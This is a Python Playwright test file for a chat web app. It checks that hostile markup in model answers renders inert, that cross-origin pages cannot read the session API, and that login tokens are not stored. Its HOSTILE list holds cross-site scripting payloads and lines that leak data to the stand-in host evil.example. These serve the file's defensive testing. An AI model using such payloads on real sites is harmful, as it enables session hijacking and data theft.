"""What a model says is hostile input: it is shown, and does nothing. So are other sites."""

from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import OpenPage, Serve
from tests.server.client import Server

HOSTILE = [
    '<img src=x onerror="window.pwned=1">',
    "<script>window.pwned=1</script>",
    '<iframe src="javascript:parent.pwned=1"></iframe>',
    "[click](javascript:window.pwned=1)",
    "![leak](http://evil.example/?secret)",
    '<a href="data:text/html,<script>1</script>">x</a>',
    '<svg><animate onbegin="window.pwned=1" attributeName=x dur=1s></svg>',
    '<style>body{background:url("http://evil.example/")}</style>',
    '<form action="http://evil.example/"><button>Pay</button></form>',
    '```html"><img src=x onerror=window.pwned=1>\nx\n```',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
]


@pytest.fixture
def server(serve: Serve) -> Server:
    return serve()


def test_hostile_answers_are_text(server: Server, open_page: OpenPage) -> None:
    session_id = server.create(title=HOSTILE[0])
    after = None
    for one in HOSTILE:
        server.begin(session_id, f"say {one}")
        after = server.until_end(session_id, after)[-1].id
    page = open_page(server, f"/s/{session_id}")
    expect(page.locator(".message.assistant")).to_have_count(len(HOSTILE))
    for link in page.locator(".prose a").all():
        link.evaluate("one => one.removeAttribute('target')")
        if (link.get_attribute("href") or "").startswith("javascript"):
            raise AssertionError("a link that runs something")
    assert page.evaluate("window.pwned") is None
    found = page.evaluate(
        "() => [...document.querySelectorAll('.prose :is(img, script, iframe, svg, style, form)')]"
        ".map((one) => one.outerHTML)"
    )
    assert found == []


def test_a_page_of_another_site_can_neither_read_nor_write(
    server: Server, open_page: OpenPage, tmp_path: Path
) -> None:
    """Another origin in another tab: the browser sends its requests, and the server refuses."""
    session_id = server.create(title="Secret")
    page = open_page(server, "/", quiet=False)
    # The same machine under another name is another site to the browser.
    page.goto(server.url.replace("127.0.0.1", "localhost"))
    outcome = page.evaluate(
        """async (url) => {
          const tried = {};
          for (const [name, work] of Object.entries({
            read: () => fetch(`${url}/api/sessions`).then((one) => one.text()),
            write: () => fetch(`${url}/api/sessions`, {
              method: "POST", body: "{}", mode: "no-cors", headers: {"Content-Type": "text/plain"},
            }).then((one) => one.type),
          })) {
            try { tried[name] = await work(); } catch (error) { tried[name] = "blocked"; }
          }
          return tried;
        }""",
        server.url,
    )
    assert outcome["read"] == "blocked"
    listed = server.get("/api/sessions")["sessions"]
    assert [one["id"] for one in listed] == [session_id]


def test_the_page_asks_for_a_token_and_forgets_it_with_the_tab(
    serve: Serve, open_page: OpenPage, tmp_path: Path
) -> None:
    from killick.server.auth import Tokens

    tokens = Tokens(tmp_path / "tokens.json")
    _, secret = tokens.make("laptop", "read", 0)
    server = serve()
    page = open_page(server)
    page.get_by_role("textbox", name="Token").fill(secret)
    page.get_by_role("button", name="Go on").click()
    expect(page.get_by_text("No sessions here yet.")).to_be_visible()
    assert secret not in page.url
    assert page.evaluate("JSON.stringify(localStorage)").find(secret) < 0
